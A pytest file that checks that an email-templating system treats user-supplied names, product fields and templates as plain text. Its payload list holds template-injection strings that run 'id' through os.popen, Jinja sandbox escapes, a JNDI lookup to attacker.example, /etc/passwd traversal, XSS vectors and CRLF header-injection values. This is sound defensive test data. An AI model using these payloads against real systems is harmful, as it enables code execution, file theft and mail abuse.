"""Whatever somebody gives as their name, and whatever a step carries: it is text, and nothing is done by it."""

import json
import re
import shutil
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from rehearsal import Place, action, email_channel
from test_rendering import LINKS, render, write

from activations import mime
from activations.channels.email import EmailChannel
from activations.channels.face import UnsendableError
from activations.delivery.delivery import TEMPLATES
from activations.delivery.outbox import Action
from activations.templating.rendering import Templates

# a sum of theirs that is worked out shows by its result, and a file by what is in it
WORKED_OUT = re.compile(r"\b(?:49|7777777|30024)\b|root:|uid=|PATH=|Traceback|<class|object at 0x")
PAYLOADS = [
    # Liquid, Jinja, Twig, Mako, ERB, Freemarker, Velocity, Thymeleaf, Handlebars
    "{{7*7}}",
    "{{ 7 | times: 7 }}",
    "{{ '7' | times: 7 }}",
    "{% assign x = 7 | times: 7 %}{{ x }}",
    "{%- raw -%}{{ 7*7 }}{%- endraw -%}",
    "{% endraw %}{{ 7 | times: 7 }}",
    "}}{{ 7 | times: 7 }}{{",
    "%}{{ 7 | times: 7 }}{%",
    "{% endlinked %}{{ 7 | times: 7 }}",
    "{% render 'why', unsubscribe_url: '/etc/passwd' %}",
    "{% include '/etc/passwd' %}",
    "{% render '../shop.yml' %}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request|attr('application') }}",
    # the two escapes from Jinja's sandbox: a format kept for later, and one reached through a filter
    "{{ ('{0.__class__.__init__.__globals__}'.format)|string }}",
    "{% set f = '{0.__class__}'.format %}{{ f(self) }}",
    "{{ ['{0.__class__}']|map('format', self)|list }}",
    "{{ 'x'|attr('format') }}",
    "{{ ''|attr('__class__')|attr('__base__') }}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@(7*7)",
    "~{7*7}",
    "<%= 7*7 %>",
    "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}",
    "#set($x=7*7)$x",
    "[[${7*7}]]",
    "{{#with 'constructor'}}{{this}}{{/with}}",
    "{php}echo 7*7;{/php}",
    "<?php echo 7*7; ?>",
    # format strings
    "%s%s%s%n",
    "%(password)s",
    "{0.__class__.__init__.__globals__}",
    "{contact.__class__}",
    "{!r}",
    "$PATH ${PATH} $(id) `id`",
    "${jndi:ldap://attacker.example/a}",
    # paths
    "../../../../etc/passwd",
    "/etc/passwd%00",
    "file:///etc/passwd",
    "..\\..\\shop.yml",
    # markup and scripts
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![endif]--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</td></tr></table></body></html><h1>gone</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003e",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "<mj-raw><script>alert(1)</script></mj-raw>",
    "zq0z zq1z",
    "<!--zq1z-->",
    # headers
    "Ann\r\nBcc: all@example.com",
    "Ann\nBcc: all@example.com\n\n<h1>body</h1>",
    "Ann%0d%0aBcc: all@example.com",
    "Ann\u2028Bcc: all@example.com",
    "Ann\x0bBcc: all@example.com",
    "=?utf-8?q?Ann=0ABcc:_all@example.com?=",
    "Ann\x00",
    "\u202eAnn",
]
HEADERS = sorted(
    [
        "From",
        "To",
        "Subject",
        "Date",
        "Message-ID",
        "Feedback-ID",
        "List-Unsubscribe",
        "List-Unsubscribe-Post",
        "MIME-Version",
        "Content-Type",
    ]
)


class Elements(HTMLParser):
    """The elements of a page, their attributes, and what is read of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.shape: list[tuple[str, tuple[str, ...]]] = []
        self.links: list[str] = []
        self.read = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.read += data


def sent(channel: EmailChannel, template: str, first_name: str, context: dict[str, Any]) -> EmailMessage:
    profile = json.dumps({"first_name": first_name})
    row = Action(**action(1, template=template, profile=profile, context=json.dumps(context)))
    return message_from_bytes(channel.render(row, "<1@shop.example>").content, EmailMessage, policy=policy.default)


def part(message: EmailMessage, kind: str) -> str:
    body = message.get_body((kind,))
    assert body is not None
    return str(body.get_content())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_in_each_part_of_a_mail(channel: EmailChannel, payload: str) -> None:
    context = {"cart_id": payload, "cart_value": 20, "item_count": 2}
    plain = sent(channel, "cart_incentive", "Ann", {**context, "cart_id": "c"})
    message = sent(channel, "cart_incentive", payload, context)
    assert sorted(message.keys()) == HEADERS
    assert str(message["Subject"]) == f"{mime.one_line(payload)}, delivery of your cart is on us"
    there, usual = Elements(part(message, "html")), Elements(part(plain, "html"))
    # not one element, and not one attribute, more than in anybody's mail
    assert there.shape == usual.shape
    assert all(link.startswith("https://") for link in there.links)
    said = " ".join(payload.replace("\x00", "\ufffd").split())
    assert said in " ".join(there.read.replace("\x00", "\ufffd").split())
    assert " ".join(payload.split()) in " ".join(part(message, "plain").split())
    for shown in (str(message["Subject"]), there.read, part(message, "plain")):
        assert not WORKED_OUT.search(shown.replace(payload, ""))


@pytest.fixture(scope="module")
def channel(tmp_path_factory: pytest.TempPathFactory) -> EmailChannel:
    return email_channel(Place(tmp_path_factory.mktemp("place")))


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of templates for tests to write one in."""
    copy = tmp_path_factory.mktemp("payloads") / "templates"
    shutil.copytree(TEMPLATES, copy)
    return copy


@pytest.fixture(scope="module")
def showing(tmp_path_factory: pytest.TempPathFactory) -> Templates:
    """Templates with one that shows a product."""
    folder = tmp_path_factory.mktemp("product") / "templates"
    shutil.copytree(TEMPLATES, folder)
    block = "{% render 'product', product: context.product, currency: 'EUR' %}"
    write(folder, html="")
    (folder / "own" / "body.mjml.liquid").write_text(block)
    return Templates(folder)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_product_is_text(showing: Templates, payload: str) -> None:
    templates = showing

    def shown(title: str) -> Elements:
        product = {"title": title, "url": "https://shop.example/p", "image": "https://shop.example/p.jpg", "price": 1}
        return Elements(render(templates, context={"product": product}).html)

    assert shown(payload).shape == shown("A jug").shape
    assert " ".join(payload.replace("\x00", "").split()) in " ".join(shown(payload).read.replace("\x00", "").split())


@pytest.mark.parametrize("field", ["url", "image"])
# what begins with # is a place in the mail itself
@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload[0] != "#"])
def test_a_link_to_a_payload_is_not_sent(showing: Templates, field: str, payload: str) -> None:
    product = {"title": "x", "url": "https://shop.example/p", "image": "https://shop.example/p.jpg", field: payload}
    with pytest.raises(UnsendableError, match=r"a link points to|a picture is at"):
        render(showing, context={"product": product})


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_that_is_a_template_runs_nothing(folder: Path, payload: str) -> None:
    """Those who write templates may use Liquid, and nothing else: no code runs, no file is read."""
    write(folder, text=payload, html=payload)
    try:
        rendered = render(Templates(folder), message=LINKS)
    except UnsendableError:
        return
    assert not re.search(r"root:|uid=|PATH=/|<class|object at 0x|__globals__': ", rendered.text + rendered.html)
    # its own sums it may do
    if "times" not in payload:
        assert "49" not in rendered.text.replace(payload, "")


@pytest.mark.parametrize(
    "source", ["{{ 'now' | date: '%Y' }}", "{{ now }}", "{{ today | date: '%Y' }}", "{{ contact.first_name | safe }}"]
)
def test_a_template_sees_no_clock_and_has_no_way_around_escaping(folder: Path, source: str) -> None:
    write(folder, html=source)
    with pytest.raises(UnsendableError):
        render(Templates(folder), contact={"first_name": "x"})


@pytest.mark.parametrize(
    "html",
    ["<script>x</script>", "<p onclick='x()'>x</p>", "<iframe src='https://x.example'></iframe>", "<form>x</form>"],
)
def test_a_template_that_would_run_something_is_not_read(folder: Path, html: str) -> None:
    write(folder, html=html)
    with pytest.raises(UnsendableError, match="no part of a mail"):
        render(Templates(folder), contact=LINKS)
